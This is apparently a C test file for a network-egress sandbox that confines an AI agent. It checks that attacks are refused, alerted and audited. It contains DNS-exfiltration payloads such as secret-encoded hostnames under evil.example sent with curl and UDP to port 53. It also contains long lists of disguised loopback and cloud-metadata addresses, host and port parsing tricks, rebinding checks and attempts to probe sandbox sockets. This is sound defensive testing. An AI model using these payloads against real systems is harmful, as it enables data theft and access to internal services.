/*
 * Names and addresses, rows 24 to 28 and 32 of the attack list, from inside real sandboxes: what
 * was not let through has reached nobody, no name that was not allowed was looked up, and the human
 * was asked or told.
 */
#include "canary.h"

#include <ftw.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>

#define COUNT(table) (sizeof(table) / sizeof((table)[0]))

/* --- row 24 --- */

START_TEST(unknown_host_is_held)
{
    attack_start("a", NETWORK_FETCH("good.example"));
    WAIT_FOR(attack_request("good.example:80", "id")[0]);
    ck_assert_str_eq(attack_request("good.example:80", "class"), "wall");
    ck_assert_str_eq(attack_request("good.example:80", "sandbox"), "a");
    ck_assert(attack_audited("request", "\"good.example:80\""));
    ck_assert(!world_shows(&attack_world, "a", "over"));
    WAIT_FOR(attack_answer("deny", "good.example:80", "--rule", "all"));
    network_wait_over("a");
    ck_assert(world_shows(&attack_world, "a", "code 403"));
    ck_assert(attack_audited("verdict", "\"good.example:80\""));
    /* From now on it is denied without a question, but not without an alert. */
    attack_start("b", NETWORK_FETCH("good.example"));
    network_wait_over("b");
    ck_assert(world_shows(&attack_world, "b", "code 403"));
    ck_assert(attack_alerted("good.example:80 was denied"));
    ck_assert_int_eq(net_requests(""), 0);
    ck_assert_int_eq(network_lookups(), 0);
    BELLJAR_OK(&attack_world, "audit", "verify");
}
END_TEST

/* --- row 25 --- */

/* The secret stands in the name. What is no name is refused, and not looked up for all that. */
#define LABEL_64 "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
static const char exfiltrating[] = "c2VjcmV0.evil.example:80\n"
                                   "c2VjcmV0.evil.example.:80\n"
                                   "C2VJCMV0.EVIL.EXAMPLE:443\n"
                                   "c2VjcmV0.good.example:80\n"
                                   "c2VjcmV0..evil.example:80\n"
                                   ".c2VjcmV0.evil.example:80\n"
                                   "c2VjcmV0\\x20.evil.example:80\n"
                                   "c2VjcmV0\\x00.evil.example:80\n"
                                   "c2VjcmV0%00.evil.example:80\n"
                                   "c2Vj/cmV0.evil.example:80\n"
                                   "c2VjcmV0.evil.example:0\n"
                                   "c2VjcmV0.evil.example:65616\n" LABEL_64 ".evil.example:80\n"
                                   "\\xc3\\xbc.evil.example:80\n"
                                   "c2VjcmV0:80\n";

START_TEST(denied_and_malformed_names_are_not_looked_up)
{
    attack_policy("egress { allow = [\"good.example:80\"]; default = deny }\n");
    network_all_refused("a", "connect,get,socks", exfiltrating);
    ck_assert_int_eq(network_lookups(), 0);
    ck_assert(attack_alerted("c2vjcmv0.evil.example:80 was denied"));
}
END_TEST

START_TEST(undecided_names_are_not_looked_up)
{
    /* The agent leaves before anybody has decided; and there is no resolver but the proxy. */
    attack_start("a",
                 "curl -s http://c2VjcmV0.evil.example/ & a=$!; "
                 "curl -s --socks5-hostname 127.0.0.1:3128 http://c2VjcmV1.evil.example/ & b=$!; "
                 "curl -s -p http://c2VjcmV2.evil.example:443/ & c=$!; "
                 "read go; kill -9 $a $b $c; "
                 "curl -s -m 9 --noproxy '*' http://c2VjcmV3.evil.example/; echo curl $?; "
                 "getent hosts c2VjcmV4.evil.example; echo getent $?; "
                 "python3 -c 'import socket; s = socket.socket(2, 2); "
                 "s.sendto(b\"c2VjcmV0\", (\"" NET_PUBLIC "\", 53))'; echo over; cat");
    for (int i = 0; i < 3; i++) {
        static const char *const subjects[] = {
            "c2vjcmv0.evil.example:80", "c2vjcmv1.evil.example:80", "c2vjcmv2.evil.example:443"};
        WAIT_FOR(attack_request(subjects[i], "id")[0]);
        ck_assert(attack_audited("request", subjects[i]));
    }
    BELLJAR_OK(&attack_world, "send", "a", "--enter", "go");
    network_wait_over("a");
    const char *text = world_capture(&attack_world, "a");
    ck_assert_msg(strstr(text, "curl 6") && strstr(text, "getent 2") && strstr(text, "unreachable"),
                  "%s", text);
    WAIT_FOR(!attack_request("c2vjcmv0.evil.example:80", "id")[0]);
    ck_assert_int_eq(network_lookups(), 0);
}
END_TEST

/* --- row 26 --- */

/* All names are allowed, and no address is: whatever is one in disguise is refused. */
static const char addresses[] = "127.0.0.1:80\n"
                                "127.1:80\n"
                                "127.0.0.1.:80\n"
                                "2130706433:80\n"
                                "0x7f000001:80\n"
                                "0x7f.1:80\n"
                                "0X7F.0.0.0x1:80\n"
                                "0177.0.0.1:80\n"
                                "017700000001:80\n"
                                "00000000177.0.0.1:80\n"
                                "127.0.0.1:443\n"
                                "[::1]:80\n"
                                "[::]:80\n"
                                "[::ffff:127.0.0.1]:80\n"
                                "[::ffff:7f00:1]:80\n"
                                "[0:0:0:0:0:ffff:7f00:0001]:80\n"
                                "[::127.0.0.1]:80\n"
                                "[64:ff9b::7f00:1]:80\n"
                                "[2002:7f00:1::]:80\n"
                                "[::1%25lo]:80\n"
                                "[::1%lo]:80\n"
                                "[127.0.0.1]:80\n"
                                "::1:80\n"
                                "0:80\n"
                                "0.0.0.0:80\n"
                                "4294967295:80\n"
                                "4294967296:80\n"
                                "340282366920938463463374607431768211456:80\n"
                                "169.254.169.254:80\n"
                                "2852039166:80\n"
                                "0xa9fea9fe:80\n"
                                "[::ffff:a9fe:a9fe]:80\n"
                                "10.1.2.3:80\n"
                                "10.66051:80\n"
                                "100.64.0.1:80\n" NET_PUBLIC ":80\n" NET_PUBLIC ".:80\n"
                                "1572394766:80\n"
                                "0x5db8d70e:80\n"
                                "0135.0270.0327.016:80\n"
                                "[::ffff:" NET_PUBLIC "]:80\n"
                                "1.2.3.4.5:80\n"
                                "127.0.0.1.09:80\n";

START_TEST(addresses_in_disguise)
{
    attack_policy("egress { allow = [\"**\"]; default = deny }\n");
    network_all_refused("a", "connect,get,socks", addresses);
    ck_assert_int_eq(net_requests(""), 0);
    ck_assert(attack_alerted("127.0.0.1:80 was denied"));
    ck_assert_int_eq(network_lookups(), 0);
}
END_TEST

/* One name at one port is allowed; these are neither that name nor that port. */
static const char tricks[] = "good.example:443\n"
                             "good.example:8080\n"
                             "good.example:22\n"
                             "good.example:0\n"
                             "good.example:65616\n"
                             "good.example:4294967376\n"
                             "good.example:-80\n"
                             "good.example:+80\n"
                             "good.example:080\n"
                             "good.example:0x50\n"
                             "good.example:80:80\n"
                             "good.example:80@127.0.0.1:80\n"
                             "good.example@127.0.0.1:80\n"
                             "user@good.example:80\n"
                             "user:80@good.example:80\n"
                             "good.example\\x20:80\n"
                             "good.example\\x09:80\n"
                             "good.example\\x00:80\n"
                             "good.example\\x00.evil.example:80\n"
                             "good.example%00.evil.example:80\n"
                             "good%2eexample:80\n"
                             "good.example..:80\n"
                             "good..example:80\n"
                             ".good.example:80\n"
                             "sub.good.example:80\n"
                             "good.example.evil.example:80\n"
                             "evilgood.example:80\n"
                             "good.example,evil.example:80\n"
                             "good.example;evil.example:80\n"
                             "good.example\\x5cevil.example:80\n"
                             "good.example#evil.example:80\n"
                             "evil.example?good.example:80\n"
                             "evil.example/good.example:80\n"
                             "good\\xe3\\x80\\x82example:80\n"
                             "g\\xd0\\xbe\\xd0\\xbed.example:80\n"
                             "g\\xc2\\xadood.example:80\n"
                             "xn--gd-fkaa.example:80\n"
                             "*.example:80\n"
                             "**:80\n"
                             ":80\n"
                             "[good.example]:80\n"
                             "//good.example:80\n";

START_TEST(tricks_with_names_and_ports)
{
    attack_policy("egress { allow = [\"good.example:80\"]; default = deny }\n");
    network_all_refused("a", "connect,socks", tricks);
    ck_assert_int_eq(net_requests(""), 0);
    ck_assert_int_eq(network_lookups(), 0);
    /* Spellings of the very name are that name, for the policy and for the resolver. */
    attack_start("b", "for n in good.example GOOD.Example good.example. good.example:80; do "
                      "curl -sS -m 60 http://$n/x; done; echo over; cat");
    network_wait_over("b");
    ck_assert_int_eq(net_requests("GET /x good.example\n"), 4);
    ck_assert_int_eq(network_lookups(), net_queries("good.example"));
}
END_TEST

/* --- rows 27 and 28 --- */

static const char *const inward[] = {"inside.example", "metadata.example", "link.example",
                                     "lan.example",    "shared.example",   "zero.example",
                                     "localhost"};

START_TEST(allowed_names_that_lead_inside)
{
    attack_policy("egress { allow = [\"**\"]; default = deny }\n");
    network_all_refused(
        "a", "connect,get,socks",
        "inside.example:80\nmetadata.example:80\nlink.example:80\nlan.example:80\n"
        "shared.example:80\nzero.example:80\nINSIDE.example.:443\nmetadata.example:8080\n"
        "localhost:80\nLOCALHOST.:3128\n");
    for (size_t i = 0; i < COUNT(inward); i++) {
        char text[64];
        snprintf(text, sizeof(text), "%s resolves to ", inward[i]);
        ck_assert_msg(attack_alerted(text), "no alert says: %s", text);
    }
    /* At two addresses: only the public one is used, though the other comes first. */
    attack_start("b", NETWORK_FETCH("mixed.example"));
    network_wait_over("b");
    ck_assert(world_shows(&attack_world, "b", "code 200"));
    ck_assert_int_eq(net_requests("GET /x mixed.example"), 1);
    network_canaries_are_alone();
}
END_TEST

START_TEST(rebinding)
{
    attack_policy("egress { allow = [\"rebound.example\"]; default = deny }\n");
    attack_start("a", "for i in 1 2; do curl -sS -m 60 -o /dev/null -w 'code %{http_code}\\n' "
                      "http://rebound.example/x; done; echo over; cat");
    network_wait_over("a");
    /* Where the first one went is what was checked: one answer was used for both. */
    ck_assert_msg(world_shows(&attack_world, "a", "code 200\ncode 403"), "%s",
                  world_capture(&attack_world, "a"));
    ck_assert_int_eq(net_requests("GET /x rebound.example"), 1);
    ck_assert(attack_alerted("rebound.example resolves to 127.0.0.1"));
    network_canaries_are_alone();
}
END_TEST

/* --- row 32 --- */

static char socket_paths[4096];

static int visit_socket(const char *path, const struct stat *info, int type, struct FTW *where)
{
    size_t used = strlen(socket_paths);
    if (S_ISSOCK(info->st_mode))
        snprintf(socket_paths + used, sizeof(socket_paths) - used, "%s\n", path);
    return 0;
}

START_TEST(proxies_and_monitors_of_others)
{
    attack_policy("egress { allow = [\"**\"]; default = deny }\n");
    attack_start("victim", "python3 -c 'import socket\n"
                           "l = socket.create_server((\"127.0.0.1\", 9999))\n"
                           "print(\"listens\", flush=True); l.accept(); print(\"CAME\")'; cat");
    WAIT_FOR(world_shows(&attack_world, "victim", "listens"));
    BELLJAR_OK(&attack_world, "run", "-d", "-n", "busy", "--", "sh", "-c",
               NETWORK_FETCH("good.example"));
    network_wait_over("busy"); /* so that its proxy runs */
    socket_paths[0] = '\0';
    ck_assert_int_eq(nftw(attack_world.runtime, visit_socket, 16, FTW_PHYS), 0);
    ck_assert_ptr_nonnull(strstr(socket_paths, "view.sock"));
    ck_assert_ptr_nonnull(strstr(socket_paths, "egress.sock"));
    world_file(&attack_world, "project/sockets", socket_paths, 0644);
    attack_start("a", "while read p; do ./probe unix $p; done <sockets\n"
                      "find / -xdev -type s 2>/dev/null | grep -v ^/belljar/\n"
                      "ls -R /belljar | grep -c sock\n"
                      "curl -s -m 5 --noproxy '*' telnet://127.0.0.1:9999; echo direct $?\n"
                      "curl -s -m 60 --noproxy '' -p -o /dev/null -w 'proxied %{http_connect}\\n' "
                      "http://127.0.0.1:9999/; echo over; cat");
    network_wait_over("a");
    const char *text = world_capture(&attack_world, "a");
    ck_assert_msg(strstr(text, "refused:") && !strstr(text, "SUCCEEDED"), "%s", text);
    ck_assert_msg(strstr(text, "direct 7") && strstr(text, "proxied 403"), "%s", text);
    ck_assert(!world_shows(&attack_world, "victim", "CAME"));
    network_canaries_are_alone();
}
END_TEST

int main(void)
{
    const struct network_case cases[] = {
        {"row 24: a host that is not on the list", unknown_host_is_held},
        {"row 25: denied and malformed names", denied_and_malformed_names_are_not_looked_up},
        {"row 25: undecided names", undecided_names_are_not_looked_up},
        {"row 26: addresses in disguise", addresses_in_disguise},
        {"row 26: tricks with names and ports", tricks_with_names_and_ports},
        {"row 27: allowed names that lead inside", allowed_names_that_lead_inside},
        {"row 28: rebinding", rebinding},
        {"row 32: proxies and monitors of others", proxies_and_monitors_of_others},
    };
    return network_main("network", cases, sizeof(cases) / sizeof(cases[0]));
}
